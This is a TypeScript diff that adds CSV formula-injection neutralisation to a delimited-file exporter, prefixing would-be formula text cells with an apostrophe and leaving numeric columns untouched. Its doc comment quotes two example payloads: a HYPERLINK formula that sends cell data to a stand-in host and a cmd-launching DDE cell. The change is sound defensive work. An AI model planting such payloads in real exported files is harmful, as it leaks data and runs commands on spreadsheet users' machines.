@@ -33,6 +33,35 @@ export interface FieldReplacements {
   lineBreak?: string;
 }
 
+/**
+ * CSV formula injection (OWASP "CSV Injection", issue 16): a spreadsheet opening a delimited file
+ * runs a cell that starts with `=`, `+`, `-` or `@` as a formula (`=HYPERLINK("http://evil.example/?x="&A1)`,
+ * `+cmd|' /C calc'!A0`), and a leading tab or carriage return can hide such a start. Text cells that
+ * begin so are written with a `'` in front, which spreadsheets show as text.
+ * - Only text cells: an amount, date, integer or quantity column writes a number, and `-1250.00`
+ *   must stay a number. A text cell that is a plain number (`-12,50`, `+47 22 33 44 55`) is no
+ *   formula either and stays as it is.
+ * - `neutralise` is the default. `raw` is for files read by an accounting system's importer that
+ *   takes each text byte as given (the format's module says why), and for a template whose user
+ *   turned it off.
+ */
+export type FormulaCells = 'neutralise' | 'raw';
+
+// Blanks in front do not stop every spreadsheet (a tab or CR is the OWASP case; builders write them as blanks).
+const FORMULA_START = /^[\s\u00a0]*[=+\-@]|^[\t\r]/;
+/** A signed plain number with grouping blanks, separators or a percent sign: not a formula. */
+const PLAIN_NUMBER = /^[\s\u00a0]*[+-]?[\d .,\u00a0]*\d[\d .,\u00a0]*%?$/;
+
+/** Whether a text cell would start a formula in a spreadsheet (see `FormulaCells`). */
+export function looksLikeFormula(text: string): boolean {
+  return FORMULA_START.test(text) && !PLAIN_NUMBER.test(text);
+}
+
+/** The text as a spreadsheet shows it as text: `'` in front of a would-be formula, else unchanged. */
+export function neutraliseFormula(text: string): string {
+  return looksLikeFormula(text) ? `'${text}` : text;
+}
+
 export interface DelimitedColumn {
   header: string;
   /** Path into the row object, e.g. `invoice.number`; see `getFieldValue`. */
@@ -55,6 +84,8 @@ export interface DelimitedLayout {
   replacements?: FieldReplacements;
   /** Write `""` for an empty field (when quoting is not `none`). */
   quoteEmpty: boolean;
+  /** Text cells that a spreadsheet would run as a formula: `neutralise` (absent) or `raw`; see `FormulaCells`. */
+  formulas?: FormulaCells;
   headerRow: boolean;
   /** Default decimal separator for amount and quantity columns without their own. */
   decimalSeparator: string;
@@ -117,8 +148,11 @@ function encodeCell(
 
 /** The header line alone (also used by templates that write their own rows). */
 export function delimitedHeader(layout: DelimitedLayout): string {
+  const guard = layout.formulas !== 'raw';
   return layout.columns
-    .map((c) => encodeCell(c.header, { header: c.header }, layout, () => undefined))
+    .map((c) =>
+      encodeCell(guard ? neutraliseFormula(c.header) : c.header, { header: c.header }, layout, () => undefined),
+    )
     .join(layout.delimiter);
 }
 
@@ -161,6 +195,7 @@ function cellWriter<Row>(layout: DelimitedLayout, column: DelimitedColumn): Cell
   const read = fieldReader(column.field, column.value ?? '');
   const format = column.format;
   const plainWhenNeeded = layout.quoting === 'when-needed' && column.quote === undefined;
+  const guardFormulas = layout.formulas !== 'raw' && (format?.type ?? 'text') === 'text';
   // One test for what RFC 4180 quoting needs (delimiter, quote, line break, blank at either end).
   const special = new RegExp(`${escapeRegExp(layout.delimiter)}|["\\r\\n]|^\\s|\\s$`);
   const replacements = layout.quoting === 'none' ? layout.replacements : undefined;
@@ -170,6 +205,7 @@ function cellWriter<Row>(layout: DelimitedLayout, column: DelimitedColumn): Cell
     : undefined;
   return (row, record, issues) => {
     let text = formatField(read(row), format, { record, field: column.header, issues }, layout.decimalSeparator);
+    if (guardFormulas && text !== '' && looksLikeFormula(text)) text = `'${text}`;
     if (replacements !== undefined && unquotable !== undefined && unquotable.test(text)) {
       const result = replaceUnquotable(text, layout.delimiter, replacements);
       if (result) {
